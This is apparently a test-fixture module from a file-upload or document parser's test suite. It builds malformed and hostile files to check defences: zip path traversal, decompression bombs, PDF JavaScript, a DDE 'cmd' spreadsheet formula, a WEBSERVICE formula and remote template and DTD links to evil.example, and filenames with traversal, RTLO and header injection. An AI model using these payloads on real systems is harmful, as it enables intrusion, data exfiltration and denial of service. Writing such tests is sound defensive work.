"""More hostile files, for every door that takes any: name -> bytes. None does harm by itself."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from tests.core.hostile import REMOTE, SHEET, chunk, docx, packed, pdf, png, xlsx

_RELS = "word___rels__document.xml.rels"
_SHEET = "xl__worksheets__sheet1.xml"


def _stream(dictionary: bytes, body: bytes) -> bytes:
    return (b"5 0 obj\n<< /Length %d " % len(body)) + dictionary + b" >>\nstream\n" + body + (
        b"\nendstream\nendobj\n"
    )  # fmt: skip


def _paged(contents: bytes, font: bytes = b"") -> bytes:
    """A PDF whose one page draws what the object 5 holds."""
    page = b"4 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 5 0 R %s >>\nendobj\n"  # noqa: E501
    return pdf(more=page % font + contents).replace(b"/Kids [] /Count 0", b"/Kids [4 0 R] /Count 1")


def _renamed() -> bytes:
    """The record of the Unicode path says another name than the entry."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        info = zipfile.ZipInfo("innocent.txt")
        other = b"../../etc/cron.d/evil"
        body = struct.pack("<BL", 1, zlib.crc32(b"innocent.txt")) + other
        info.extra = struct.pack("<HH", 0x7075, len(body)) + body
        package.writestr(info, b"x")
    return out.getvalue()


def _other_name_inside() -> bytes:
    """The local header says another name than the directory."""
    body = packed({"word/aaaaaaaa.xml": b"<a/>", "[Content_Types].xml": b"<Types/>"})
    at = body.index(b"word/aaaaaaaa.xml")
    return body[:at] + b"../../aaaaaaa.xml" + body[at + 17 :]


def _twice_by_case() -> bytes:
    return docx(**{"WORD__DOCUMENT.XML": b"<w:document>other</w:document>"})


def _strings() -> bytes:
    """One long string that a hundred thousand cells show."""
    strings = b"<sst count='1' uniqueCount='1'><si><t>%s</t></si></sst>" % (b"A" * 32_000)
    cells = b"".join(
        b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (n, n) for n in range(1, 100_001)
    )
    return xlsx(
        **{"xl__sharedStrings.xml": strings,
           _SHEET: b"<worksheet><sheetData>" + cells + b"</sheetData></worksheet>"}
    )  # fmt: skip


def _rows() -> bytes:
    rows = b"".join(b'<row r="%d"/>' % n for n in range(1, 1_000_001))
    return xlsx(**{_SHEET: b"<worksheet><sheetData>" + rows + b"</sheetData></worksheet>"})


def _formula(formula: bytes) -> bytes:
    return xlsx(**{_SHEET: SHEET.replace(b"<v>1</v>", b"<f>%s</f><v>1</v>" % formula)})


def more_hostile() -> dict[str, bytes]:
    script = zlib.compress(b"6 0 << /S /JavaScript /JS (app.alert(1)) >>")
    far = (REMOTE % (b"attachedTemplate", b"http://evil.example/t")).replace(
        b"<Relationships>", b"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/"
        b"relationships' xmlns:r='http://schemas.openxmlformats.org/package/2006/relationships'>",
    )  # fmt: skip
    bomb = zlib.compress(zlib.compress(b"0" * (200 * 2**20), 9), 9)
    return {
        # PDFs that go round, go deep, or hide.
        "tree in a circle.pdf": pdf().replace(b"/Kids []", b"/Kids [2 0 R]"),
        "tables in a circle.pdf": pdf().replace(b"/Size 3", b"/Size 3 /Prev 9"),
        "deep arrays.pdf": pdf(more=b"5 0 obj\n" + b"[" * 200_000 + b"\nendobj\n"),
        "deep page.pdf": _paged(_stream(b"", b"<<" * 100_000 + b" BT (x) Tj ET")),
        "twice packed bomb.pdf": _paged(
            _stream(b"/Filter [/FlateDecode /FlateDecode]", bomb)
        ),
        "far length.pdf": _paged(b"5 0 obj\n<< /Length 99999999999999 >>\nstream\nx\nendobj\n"),
        "script far behind.pdf": pdf(
            more=_stream(b"/Filter /FlateDecode /Type /ObjStm /N 1 /First 4 %" + b"x" * 900 + b"\n",
                         script)
        ),
        "script in a spelled type.pdf": pdf(
            more=_stream(b"/Filter /FlateDecode /Type /Obj#53tm /N 1 /First 4", script)
        ),
        "rendition.pdf": pdf(b"/OpenAction << /S /Rendition /J#53 (1) /OP 0 >>"),
        "page before.pdf": b"<!doctype html><script>alert(1)</script>\n" + pdf(),
        "zip before.pdf": packed({"a.pdf": pdf()}, level=zipfile.ZIP_STORED) + pdf(),
        # Word documents.
        "spelled link.docx": docx(**{_RELS: far.replace(b"http:", b"&#104;ttp:")}),
        "prefixed link.docx": docx(
            **{_RELS: far.replace(b"<Relationship ", b"<r:Relationship ")}
        ),
        "ebcdic entities.docx": docx(
            **{"word__styles.xml": "<?xml version='1.0' encoding='cp037'?><!DOCTYPE l "
               "[<!ENTITY a 'ha'>]><l>&a;</l>".encode("cp037")}
        ),
        "other name inside.docx": _other_name_inside(),
        "twice by case.docx": _twice_by_case(),
        "deep xml.docx": docx(
            **{"word__document.xml": b"<w:document>" + b"<w:p>" * 200_000}
        ),
        "renamed.zip": _renamed(),
        # Workbooks.
        "strings.xlsx": _strings(),
        "million rows.xlsx": _rows(),
        "merged sheet.xlsx": xlsx(
            **{_SHEET: SHEET.replace(b"</worksheet>", b'<mergeCells count="1"><mergeCell '
               b'ref="A1:XFD1048576"/></mergeCells></worksheet>')}
        ),
        "command formula.xlsx": _formula(b"cmd|'/c calc'!A0"),
        "asking formula.xlsx": _formula(b'WEBSERVICE("http://evil.example/?"&amp;A1)'),
        # Pictures.
        "text bomb.png": png()[:33] + chunk(
            b"zTXt", b"Comment\0\0" + zlib.compress(b"0" * (80 * 2**20), 9)
        ) + png()[33:],
        "data bomb.png": png()[:33] + chunk(b"IDAT", zlib.compress(b"0" * (80 * 2**20), 9))
        + chunk(b"IEND", b""),
        # Records and tables.
        "deep.json": b"[" * 300_000,
        "deep resume.json": b'{"basics": {"name": ' + b"[" * 100_000,
        "huge number.json": b'{"basics": {"name": 1' + b"0" * 200_000 + b"}}",
        "no number.json": b'{"basics": NaN, "work": Infinity}',
        "deep.xml": b"<record>" * 100_000,
        "outside.xml": b'<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><record/>',
        "zeros.csv": ("name,email\n" + "a\0b,c\n" * 3).encode("utf-16"),
        "columns.csv": b"," * 10_000_000,
        "open quote.csv": b'name,email\n"' + b"a\n" * 2_000_000,
    }  # fmt: skip


#: Names that a disk, a header or a reader trips over, and what is kept of them.
NAMES = {
    "cv\u202efdp.exe.pdf": "cvfdp.exe.pdf",
    "a\r\nSet-Cookie: x=1.pdf": "aSet-Cookie: x=1.pdf",
    "..\\..\\windows\\evil.pdf": "evil.pdf",
    "../../etc/passwd.pdf": "passwd.pdf",
    "a\x00b\x1b[31m.pdf": "ab[31m.pdf",
    ".. .pdf": "pdf",
    "/": "file",
}
